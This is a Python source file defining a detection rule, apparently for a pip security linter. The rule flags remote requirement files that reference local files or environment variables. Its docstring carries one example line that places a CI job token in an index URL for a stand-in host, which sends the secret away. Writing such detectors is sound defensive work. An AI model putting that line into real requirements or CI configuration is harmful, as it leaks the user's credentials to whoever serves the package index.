"""The rule ``remote-reaches-local``."""

from __future__ import annotations

from typing import Any

from safepip.rules.base import Rule


class RemoteReachesLocal(Rule[Any]):
    """Remote requirement file that uses this machine

    What it finds:
        A requirement or constraint file that came from a URL and names a file or folder of this
        machine (`-r file:…`, `--find-links wheels`, `./app`, `git+file:…`), or a `${VARIABLE}` that is
        set here; a lock file that came from a URL and names a `file:` URL.

    Why it matters:
        Whoever serves the file decides what it says, each time anew. In pip, its variables are replaced
        by yours, so that `--index-url https://${TOKEN}@packages.example` sends a secret away, and what it
        names here is read, built and installed.

    Example:
        # https://files.example/requirements.txt
        --index-url https://${CI_JOB_TOKEN}@packages.example/simple

    Instead:
        Download the file, read it, and name the local copy: what you keep yourself may use your own
        files and variables.

    Policy keys:
        none
    """

    id = "remote-reaches-local"
    exemptible = False
